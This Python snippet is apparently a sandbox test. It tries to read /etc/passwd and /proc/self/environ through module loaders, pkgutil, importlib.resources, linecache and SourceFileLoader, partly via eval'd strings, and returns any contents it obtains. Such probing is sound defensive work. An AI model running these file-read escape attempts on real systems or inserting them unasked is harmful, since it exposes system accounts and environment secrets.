# Reads files by the loaders of modules (get_data, get_source, importlib.resources, pkgutil): none has a file.
import sys
got = []
for name, module in list(sys.modules.items()):
    loader = getattr(module, "__loader__", None)
    for path in ("/etc/passwd", "/proc/self/environ"):
        try:
            got.append([name, repr(loader.get_data(path))])
        except Exception:
            pass
for attempt in ["__import__('pkgutil').get_data('json', '/etc/passwd')",
                "__import__('importlib.resources').resources.files('json').joinpath('/etc/passwd').read_text()",
                "__import__('linecache').getline('/etc/passwd', 1)",
                "__import__('importlib.machinery').machinery.SourceFileLoader('x', '/etc/passwd').get_data('/etc/passwd')",
                "__import__('importlib.machinery').machinery.SourceFileLoader('x', '/etc/passwd').load_module()"]:
    try:
        got.append([attempt, repr(eval(attempt))])
    except Exception:
        pass
return [g for g in got if g[1] not in ("''", "None")]
